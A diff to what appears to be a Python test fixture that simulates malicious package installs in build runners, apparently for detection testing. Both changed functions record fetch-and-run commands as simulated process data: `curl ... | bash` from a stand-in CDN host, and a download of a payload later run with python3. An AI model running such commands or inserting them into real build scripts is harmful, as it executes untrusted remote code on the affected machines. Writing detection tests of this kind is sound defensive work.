@@ -84,7 +84,7 @@ def attack(folder):
     """The next build installs it: its script fetches something, runs it, and that looks around."""
     job, script = _began(folder, Runner("build-7", serial=60_000, pid=30_000), AT, "shop", package=BAD)
     address = "https://cdn.collect.example/i.sh"
-    shell = script(AT, "/usr/bin/dash", "/bin/sh", "-c", f"curl -fsSL {address} | bash")
+    shell = script(AT, "/usr/bin/bash", "bash", "-c", f"curl -fsSL {address} | bash")
     curl = script(AT + 10, "/usr/bin/curl", "curl", "-fsSL", address, parent=shell)
     job.runner.connect(AT + 20, shell, curl, "/usr/bin/curl", "198.51.100.66")
     bash = script(AT + 30, "/usr/bin/bash", "bash", parent=shell)
@@ -99,7 +99,7 @@ def variant(folder):
         folder, Runner("build-9", serial=80_000, pid=50_000), LATER, "website", package="@tiny/fmt"
     )
     words = ("curl", "-s", "http://192.0.2.77/payload", "-o", "/opt/.x")
-    shell = script(LATER, "/usr/bin/dash", "/bin/sh", "-c", f"{' '.join(words)} && python3 /opt/.x")
+    shell = script(LATER, "/usr/bin/bash", "bash", "-c", f"{' '.join(words)} && python3 /opt/.x")
     curl = script(LATER + 10, "/usr/bin/curl", *words, parent=shell)
     job.runner.connect(LATER + 20, shell, curl, "/usr/bin/curl", "192.0.2.77")
     python = script(LATER + SECOND, "/usr/bin/python3.11", "python3", "/opt/.x", parent=shell)
